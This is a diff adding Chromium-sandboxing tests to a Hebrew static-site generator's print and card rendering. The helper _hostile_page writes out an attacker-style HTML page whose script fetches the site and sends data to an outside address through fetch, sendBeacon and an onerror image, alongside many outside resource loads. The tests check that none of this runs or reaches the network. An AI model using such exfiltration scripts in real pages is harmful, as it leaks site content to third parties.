@@ -4,6 +4,7 @@ bookmarks read by pypdf, pictures opened by Pillow, the previews' meta tags pars
 
 from __future__ import annotations
 
+import datetime as dt
 import os
 import re
 import shutil
@@ -15,6 +16,11 @@ from PIL import Image
 from pypdf import PdfReader
 
 from conftest import EDITIONS_ON, Project, html
+from maagal.editions.cards import CardJob
+from maagal.editions.print_pages import PrintJob
+from maagal.editions.render import EditionRenderer
+from outside import outside_address
+from word_documents import png
 
 pytestmark = [pytest.mark.slow, pytest.mark.browser]  # each draws with Chromium or reads it
 
@@ -322,3 +328,102 @@ def test_without_chromium_the_site_is_published_without_them_and_says_so_once(
     issue = project.page("issues/1/index.html")
     assert issue.select(".maagal-print-edition") == []
     assert issue.select("meta[property='og:image']") == []  # no card to point at
+
+
+# -- what the build's browser may do ----------------------------------------------------------
+
+
+def _hostile_page(outside: str) -> str:
+    """A print page as an attacker would write it, if the sanitizer ever let it through: every
+    way a page asks for something from elsewhere, and scripts that would send the site out."""
+    return f"""<!doctype html>
+<html lang="he" dir="rtl"><head><meta charset="utf-8">
+<link rel="stylesheet" href="{outside}/style.css">
+<link rel="preconnect" href="{outside}"><link rel="dns-prefetch" href="//leak.example.com">
+<link rel="prefetch" href="{outside}/prefetch"><link rel="icon" href="{outside}/icon.png">
+<meta http-equiv="refresh" content="1;url={outside}/refresh">
+<style>
+@import url({outside}/import.css);
+@font-face {{ font-family: Outside; src: url({outside}/font.woff2); }}
+body {{ font-family: Outside, sans-serif; background: url({outside}/background.png); }}
+</style></head>
+<body><h1>כותרת הגיליון</h1><p>פסקה מן הגיליון.</p>
+<img src="/issues/1/chart.png" alt="תרשים מקומי">
+<img src="{outside}/picture.png" alt="x" srcset="{outside}/srcset.png 2x">
+<iframe src="{outside}/frame"></iframe><object data="{outside}/object"></object>
+<video poster="{outside}/poster.png"></video><svg><image href="{outside}/svg.png"/></svg>
+<img src="missing.png" alt="" onerror="new Image().src='{outside}/onerror'">
+<script>
+document.body.insertAdjacentText("beforeend", "SCRIPT RAN");
+fetch("/").then(r => r.text()).then(t => fetch("{outside}/leak?" + t.length));
+navigator.sendBeacon("{outside}/beacon", "x");
+</script>
+</body></html>"""
+
+
+def test_the_build_browser_runs_no_script_and_reaches_nothing_but_the_site(
+    tmp_path: Path,
+) -> None:
+    """The PDFs and cards are drawn from what editors and outsiders wrote: whatever reaches a
+    print page, Chromium runs none of its script and asks nothing of any other address."""
+    site = tmp_path / "site"
+    (site / "issues/1").mkdir(parents=True)
+    (site / "issues/1/chart.png").write_bytes(png())
+    with outside_address() as outside:
+        page = _hostile_page(outside.url)
+        job = PrintJob(
+            "issues/1/issue-01.pdf",
+            "גיליון 1",
+            "המעגל",
+            "he",
+            dt.date(2027, 1, 1),
+            render=lambda _pages: page,
+        )
+        card = CardJob(
+            "issues/1/card.png",
+            {
+                "lang": "he",
+                "dir": "rtl",
+                "site": "המעגל",
+                "kicker": "גיליון 1",
+                "date": "",
+                "title": f'<img src="{outside.url}/card.png">',
+                "subtitle": "",
+            },
+        )
+        EditionRenderer(site, None).render([job], [card])
+        assert outside.settle() == []
+    pdf = site / "issues/1/issue-01.pdf"
+    text = pdf_text(pdf)
+    assert words("כותרת הגיליון פסקה מן הגיליון") in text  # the page was drawn
+    assert "SCRIPT RAN" not in text
+    drawn_pictures = [picture.image.size for picture in PdfReader(pdf).pages[0].images]
+    assert (240, 120) in drawn_pictures, drawn_pictures  # the site's own picture is drawn
+    with Image.open(site / "issues/1/card.png") as drawn:
+        assert drawn.size == (1200, 630)  # the card is filled in without a script of the page
+
+
+def test_a_picture_from_another_website_is_refused_and_never_fetched(project: Project) -> None:
+    with outside_address() as outside:
+        project.write(
+            "issues/1/first.md",
+            "---\ntitle: מאמר ראשון\nauthors: [noa-barkai]\norder: 1\n---\nפסקה.\n\n"
+            f"![הרפת החדשה]({outside.url}/dairy.png)\n",
+        )
+        result = project.maagal("build", env=EDITIONS_ON)
+        assert outside.settle() == []
+    assert result.code == 1
+    assert f"issues/1/first.md:8: the picture '{outside.url}/dairy.png' is on another website" in (
+        result.text
+    )
+    assert "download the picture and put it beside the article" in result.text
+    assert not (project.root / "site").exists()
+
+
+def test_chromium_gives_up_its_sandbox_only_as_root(monkeypatch: pytest.MonkeyPatch) -> None:
+    from maagal.editions import browser
+
+    monkeypatch.setattr(browser.os, "geteuid", lambda: 1001)  # a GitHub runner's user
+    assert "--no-sandbox" not in browser.chromium_args(locked=True)
+    monkeypatch.setattr(browser.os, "geteuid", lambda: 0)
+    assert "--no-sandbox" in browser.chromium_args(locked=True)
